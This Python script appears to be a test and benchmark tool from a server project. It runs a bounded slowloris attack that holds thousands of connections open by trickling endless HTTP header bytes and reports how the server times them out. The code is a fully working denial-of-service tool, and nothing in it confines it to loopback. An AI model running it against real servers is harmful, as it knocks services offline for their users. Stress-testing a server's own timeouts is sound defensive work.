#!/usr/bin/env python3
"""A bounded slowloris attacker for percore's benchmarks and tests (loopback only).

Holds CONNECTIONS connections to HOST:PORT, each sending one byte of a never-ending request
head (a request line, then header lines forever, never the blank line) every INTERVAL seconds.
A connection the server closes (with or without a 408) is counted and replaced at once, so the
attack keeps CONNECTIONS open all the time. Prints "ready N" on stdout once N are open, and on
SIGTERM/SIGINT or after --duration one JSON line with what happened:

  opened            connections opened in total (replacements included)
  responses_408     answers that were a 408 (the server's header timeout)
  closed_by_server  connections the server closed (EOF or reset)
  connect_errors    connects that failed (retried after 100 ms)
  held_s_median/max how long the server kept a cut connection, from its first byte to the close
  bytes_sent        header bytes sent in total
  open_at_end       connections open when it stopped

Usage: slowloris.py HOST PORT [--connections 2000] [--interval 1] [--duration 60]
"""

import argparse
import collections
import errno
import json
import selectors
import signal
import socket
import statistics
import sys
import time

PREFIX = b"GET / HTTP/1.1\r\nHost: slowloris\r\n"
FILLER = b"X-Slow: y\r\n"


def head_byte(i):
    if i < len(PREFIX):
        return PREFIX[i : i + 1]
    j = (i - len(PREFIX)) % len(FILLER)
    return FILLER[j : j + 1]


class Conn:
    __slots__ = ("sock", "sent", "first_byte", "connected")

    def __init__(self, sock):
        self.sock = sock
        self.sent = 0
        self.first_byte = None
        self.connected = False


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--connections", type=int, default=2000)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--duration", type=float, default=60.0)
    args = ap.parse_args()
    if not 1 <= args.connections <= 100000 or args.interval <= 0 or args.duration <= 0:
        print("slowloris: bad --connections/--interval/--duration", file=sys.stderr)
        return 2

    stop = False

    def on_signal(signum, frame):
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    sel = selectors.DefaultSelector()
    stats = collections.Counter()
    held = []
    # Sends are due in FIFO order: every connection is due INTERVAL after its previous byte.
    due = collections.deque()
    retry_at = []  # times at which a failed connect may be retried
    open_conns = set()

    def open_one(now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        rc = s.connect_ex((args.host, args.port))
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            stats["connect_errors"] += 1
            retry_at.append(now + 0.1)
            return
        c = Conn(s)
        stats["opened"] += 1
        open_conns.add(c)
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, c)

    def drop(c, now, by_server):
        if c not in open_conns:
            return
        open_conns.discard(c)
        sel.unregister(c.sock)
        c.sock.close()
        if by_server:
            stats["closed_by_server"] += 1
            if c.first_byte is not None:
                held.append(now - c.first_byte)
        if not stop:
            open_one(now)

    def send_byte(c, now):
        try:
            n = c.sock.send(head_byte(c.sent))
        except (BlockingIOError, InterruptedError):
            n = 0
        except OSError:
            drop(c, now, True)
            return
        if n == 1:
            if c.first_byte is None:
                c.first_byte = now
            c.sent += 1
            stats["bytes_sent"] += 1
        due.append((now + args.interval, c))

    start = time.monotonic()
    end = start + args.duration
    ready = False
    # Open them over about a second, as a real attacker ramps up (and not in one burst the listen
    # backlog cannot take); the server's cuts come spread over as long.
    batch = max(1, args.connections // 100)
    while len(open_conns) < args.connections and not stop:
        now = time.monotonic()
        for _ in range(min(batch, args.connections - len(open_conns))):
            open_one(now)
        time.sleep(0.01)
    while not stop:
        now = time.monotonic()
        if now >= end:
            break
        while retry_at and retry_at[0] <= now and len(open_conns) < args.connections:
            retry_at.pop(0)
            open_one(now)
        timeout = 0.05
        if due:
            timeout = max(0.0, min(timeout, due[0][0] - now))
        for key, events in sel.select(timeout):
            c = key.data
            now = time.monotonic()
            if not c.connected and events & selectors.EVENT_WRITE:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err != 0:
                    open_conns.discard(c)
                    sel.unregister(c.sock)
                    c.sock.close()
                    stats["connect_errors"] += 1
                    retry_at.append(now + 0.1)
                    continue
                c.connected = True
                sel.modify(c.sock, selectors.EVENT_READ, c)
                send_byte(c, now)
                continue
            if events & selectors.EVENT_READ:
                try:
                    data = c.sock.recv(4096)
                except (BlockingIOError, InterruptedError):
                    continue
                except OSError:
                    drop(c, now, True)
                    continue
                if data.startswith(b"HTTP/1.1 408") or data.startswith(b"HTTP/1.0 408"):
                    stats["responses_408"] += 1
                elif data:
                    stats["other_responses"] += 1
                # EOF, or any answer to a request that never ended: the server gave up on it.
                drop(c, now, True)
        now = time.monotonic()
        while due and due[0][0] <= now:
            _, c = due.popleft()
            if c in open_conns:
                send_byte(c, now)
        if not ready and sum(1 for c in open_conns if c.connected) >= args.connections:
            ready = True
            print(f"ready {args.connections}", flush=True)
    stats["open_at_end"] = len(open_conns)
    for c in list(open_conns):
        sel.unregister(c.sock)
        c.sock.close()
    out = {k: stats.get(k, 0) for k in ("opened", "responses_408", "other_responses",
                                        "closed_by_server", "connect_errors", "bytes_sent",
                                        "open_at_end")}
    out["connections"] = args.connections
    out["held_s_median"] = round(statistics.median(held), 3) if held else 0
    out["held_s_max"] = round(max(held), 3) if held else 0
    out["seconds"] = round(time.monotonic() - start, 3)
    print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
